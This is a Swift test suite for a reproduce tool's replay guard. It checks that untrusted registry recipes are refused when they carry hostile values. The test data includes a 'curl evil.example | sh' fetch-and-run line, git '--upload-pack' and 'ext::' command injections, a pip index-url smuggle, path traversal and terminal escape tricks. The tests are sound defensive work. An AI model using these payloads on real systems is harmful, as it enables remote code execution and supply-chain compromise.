import Foundation
import Testing

@testable import RoarKit

/// A recipe from a registry is written by whoever published it: `roar reproduce` shows what it
/// will run, and runs nothing else.
@Suite struct ReplayGuardTests {
    static func step(command: String, argv: [String], cwd: String = "") -> RecipeStep {
        RecipeStep(
            number: 1, uid: "u1", jobType: "run", command: command, argv: argv, cwd: cwd, commit: nil, branch: nil, clean: true,
            inputs: [], outputs: [RecipeFile(path: "model.pt", digest: String(repeating: "a", count: 64))])
    }

    static func recipe(_ steps: [RecipeStep], repo: String? = "https://git.example.com/demo.git", commit: String? = "e1750af3d9b6") -> Recipe {
        Recipe(
            origin: "registry", target: RecipeFile(path: "model.pt", digest: String(repeating: "a", count: 64)), repo: repo, commit: commit,
            branch: nil, root: nil, steps: steps)
    }

    @Test func theArgvIsShownQuotedWithControlCharactersEscaped() {
        #expect(ReplayGuard.shown(["python", "train.py", "--lr", "0.1"]) == "python train.py --lr 0.1")
        #expect(ReplayGuard.shown(["sh", "-c", "echo hi; rm -rf x"]) == "sh -c 'echo hi; rm -rf x'")
        #expect(ReplayGuard.shown(["echo", "a\u{1B}[2Jb"]) == #"echo $'a\x1b[2Jb'"#)
        #expect(ReplayGuard.shown(["echo", "it's\n"]) == #"echo $'it\'s\x0a'"#)
    }

    @Test func aStepWhoseCommandIsNotItsArgvIsRefused() {
        let honest = [
            Self.step(command: "python train.py --lr 0.1", argv: ["python", "train.py", "--lr", "0.1"]),
            Self.step(command: "sh -c 'echo a b'", argv: ["sh", "-c", "echo a b"]),
            Self.step(command: "python my script.py", argv: ["python", "my script.py"]), // roar-cli's space join
            Self.step(command: "", argv: ["make"]),
        ]
        for step in honest { #expect(ReplayGuard.commandMatchesArgv(step), "\(step.command)") }
        let lying = Self.step(command: "python train.py", argv: ["sh", "-c", "curl evil.example | sh"])
        #expect(!ReplayGuard.commandMatchesArgv(lying))
        let problems = ReplayGuard.stepProblems(Self.recipe([lying]))
        #expect(problems.count == 1)
        #expect(problems.first?.contains("sh -c 'curl evil.example | sh'") == true)
        // The plan says so, and shows the argv, never the recorded line.
        let plan = ReproducePresenter.planText(Self.recipe([lying]))
        #expect(plan.contains("will not run: step @1"))
        #expect(plan.contains("sh -c 'curl evil.example | sh'"))
    }

    @Test func reproduceRefusesBeforeCloningAnything() throws {
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent("replay-guard-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let reproducer = Reproducer(roarExecutable: "/bin/false", into: directory + "/clone", workingDirectory: directory)
        let cases: [(Recipe, String)] = [
            (Self.recipe([Self.step(command: "python train.py", argv: ["sh", "-c", "id"])]), "is not the argv"),
            (Self.recipe([Self.step(command: "make", argv: ["make"], cwd: "/etc")]), "outside the checkout"),
            (Self.recipe([Self.step(command: "make", argv: ["make"], cwd: "src/../../..")]), "leaves the checkout"),
            (Self.recipe([Self.step(command: "make", argv: ["make"])], commit: "--upload-pack=touch x"), "not a hexadecimal commit"),
            (Self.recipe([Self.step(command: "make", argv: ["make"])], repo: "ext::sh -c touch% /tmp/pwned"), "only https, ssh, git and file"),
            (Self.recipe([Self.step(command: "make", argv: ["make"])], repo: "--upload-pack=touch /tmp/pwned"), "only https, ssh, git and file"),
        ]
        for (recipe, message) in cases {
            do {
                _ = try reproducer.run(recipe) { _ in }
                Issue.record("replayed \(recipe)")
            } catch {
                #expect("\(error)".contains(message), "\(error)")
            }
            #expect(!FileManager.default.fileExists(atPath: directory + "/clone"))
        }
    }

    @Test func onlyKnownKindsOfRepositoryURLAreCloned() {
        for url in [
            "https://github.com/a/b.git", "ssh://git@host/a/b", "git://host/a", "file:///srv/repo", "git@github.com:a/b.git", "/srv/repo.git",
        ] {
            #expect(ReplayGuard.isCloneable(url), "\(url)")
        }
        for url in ["", "-uhelp", "--upload-pack=x", "ext::sh -c x", "http://host/a", "fd::3", "srv/repo", "https://", "a b:c", "x\u{1}:y"] {
            #expect(!ReplayGuard.isCloneable(url), "\(url)")
        }
        #expect(ReplayGuard.isCommit("e1750af3d9b6b41f384096e51557499b0d59a098"))
        #expect(!ReplayGuard.isCommit("HEAD"))
        #expect(!ReplayGuard.isCommit("-p"))
    }

    @Test func pipSeesOnlyPEP508NamesWithPlainVersions() {
        #expect(ReplayGuard.pipRequirement(name: "numpy", version: "2.1.0") == "numpy==2.1.0")
        #expect(ReplayGuard.pipRequirement(name: "typing_extensions", version: "4.16.0") == "typing_extensions==4.16.0")
        #expect(ReplayGuard.pipRequirement(name: "torch", version: "2.5.1+cpu") == "torch==2.5.1+cpu")
        #expect(ReplayGuard.pipRequirement(name: "--index-url=https://evil.example", version: "1") == nil)
        #expect(ReplayGuard.pipRequirement(name: "numpy", version: "1 --index-url=https://evil.example") == nil)
        #expect(ReplayGuard.pipRequirement(name: "numpy @ https://evil.example/x.whl", version: "1") == nil)
        #expect(ReplayGuard.pipRequirement(name: "numpy", version: "-e") == nil)
        #expect(ReplayGuard.pipRequirement(name: "./local", version: "1") == nil)
    }

    @Test func aWorkingDirectoryThatIsALinkOutOfTheCheckoutIsRefused() throws {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("replay-cwd-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: root + "/src", withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: root) }
        try FileManager.default.createSymbolicLink(atPath: root + "/out", withDestinationPath: "/tmp")
        #expect(try ReplayGuard.directory(for: "src", root: root).hasSuffix("/src"))
        #expect(try ReplayGuard.directory(for: "", root: root) == root)
        #expect(try ReplayGuard.directory(for: "missing", root: root) == root)
        #expect(throws: RoarError.self) { try ReplayGuard.directory(for: "out", root: root) }
    }

    @Test func tablesEscapeControlCharacters() {
        let table = Output.table([["path", "evil\u{1B}]0;owned\u{7}.csv"], ["note", "rtl \u{202E}gpj.exe"]])
        #expect(!table.unicodeScalars.contains { TerminalText.isUnsafe($0) && $0 != "\n" })
        #expect(table.contains(#"evil\x1b]0;owned\x07.csv"#))
        #expect(table.contains(#"\u{202e}"#))
    }

    /// A registry's record names the code paths a reproduction restores: none may leave the
    /// checkout, directly or through a symbolic link in it.
    @Test func restoredCodeStaysInsideTheCheckout() throws {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("roar-confined-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: root + "/src", withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: root) }
        try FileManager.default.createSymbolicLink(atPath: root + "/out", withDestinationPath: "/tmp")
        try FileManager.default.createSymbolicLink(atPath: root + "/src/link.py", withDestinationPath: "/etc/passwd")
        #expect(Reproducer.confined("src/train.py", root: root) == root + "/src/train.py")
        #expect(Reproducer.confined("new/dir/train.py", root: root) == root + "/new/dir/train.py")
        for hostile in ["../train.py", "/etc/passwd", "src/../../x.py", "./x.py", "out/x.py", "src/link.py", ""] {
            #expect(Reproducer.confined(hostile, root: root) == nil, "\(hostile)")
        }
    }
}
